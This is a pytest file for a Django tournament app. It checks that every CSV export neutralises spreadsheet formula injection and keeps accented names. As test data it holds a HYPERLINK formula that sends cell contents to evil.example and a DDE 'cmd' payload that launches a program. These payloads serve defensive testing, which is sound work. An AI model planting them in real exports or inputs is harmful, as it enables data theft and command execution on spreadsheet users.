"""Every CSV the product writes is safe and readable in a spreadsheet (issue 15, item 13): a cell
that would start a formula (= + - @ tab CR) is written as text with a leading ', and a UTF-8
byte-order mark comes first so Excel reads non-ASCII names. One writer: basics.csvfiles."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from basics.csvfiles import BOM, cell_read, cell_safe
from events.services import registration_submit
from tests.cards.factories import acara, neopets_file
from tests.events.conftest import event, make_version, neopets  # noqa: F401 (fixtures)
from tests.rulebook.core.factories import legal_entries
from tests.validation.conftest import legal_text, neopets_cards  # noqa: F401 (a fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(BOM.encode()), "no UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_would_start_a_formula_is_written_as_text(start):
    assert cell_safe(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_left_as_they_are():
    assert [cell_safe(v) for v in (-3, 2.5, True, None, "Kau Rush", "'quoted")] == [
        -3,
        2.5,
        True,
        None,
        "Kau Rush",
        "'quoted",
    ]


@given(st.text())
def test_the_guard_is_undone_exactly_when_the_product_reads_its_own_csv(text):
    assert cell_read(cell_safe(text)) == text


@pytest.fixture
def hostile_event(event, alice, bob, neopets_cards, django_user_model):  # noqa: F811
    mallory = django_user_model.objects.create_user("@mallory", password="x")
    registration_submit(
        event=event, player=mallory, deck_version=make_version(mallory, legal_entries(), HOSTILE)
    )
    registration_submit(
        event=event, player=bob, deck_version=make_version(bob, legal_entries(), "Zoë's Kaü")
    )
    return event


def test_the_organisers_report_csv_neutralises_formulas_and_keeps_accents(alice, hostile_event):
    client = Client()
    client.force_login(alice)
    rows = rows_of(client.get(f"/events/{hostile_event.token}/report.csv").content)
    by_player = {row["player"]: row for row in rows}
    assert by_player["'@mallory"]["deck"] == "'" + HOSTILE
    assert by_player["bob"]["deck"] == "Zoë's Kaü"


def test_the_report_csv_of_the_api_is_the_same_safe_csv(alice, hostile_event):
    client = Client()
    client.force_login(alice)
    response = client.get(f"/api/v1/events/{hostile_event.token}/report/", HTTP_ACCEPT="text/csv")
    decks = {row["deck"] for row in rows_of(response.content)}
    assert "'" + HOSTILE in decks


def test_the_batch_csv_neutralises_the_ids_it_echoes(db, neopets_cards):  # noqa: F811
    body = {"decks": [{"id": "=cmd|' /C calc'!A0", "game": "neopets", "text": legal_text()}]}
    response = Client().post(
        "/api/v1/validate/batch/", json.dumps(body), "application/json", HTTP_ACCEPT="text/csv"
    )
    assert [row["id"] for row in rows_of(response.content)] == ["'=cmd|' /C calc'!A0"]


def test_a_card_file_exported_as_csv_is_safe_and_imports_back_unchanged(db, tmp_path):
    card = acara(name="Zoë Acara", text="-1 Attack to every Neopet; =SUM(A1) is not a formula")
    source = tmp_path / "in.json"
    source.write_text(json.dumps(neopets_file([card])), encoding="utf-8")
    call_command("import_cards", str(source), stdout=io.StringIO())
    exported = tmp_path / "out.csv"
    call_command("export_cards", "neopets", "--format", "csv", "--output", str(exported))
    rows = rows_of(exported.read_bytes())
    assert rows[0]["text"].startswith("'-1 Attack")
    call_command("import_cards", str(exported), stdout=io.StringIO())
    again = tmp_path / "again.json"
    call_command("export_cards", "neopets", "--format", "json", "--output", str(again))
    cards = json.loads(again.read_text(encoding="utf-8"))["cards"]
    assert [(c["name"], c["text"]) for c in cards] == [(card["name"], card["text"])]
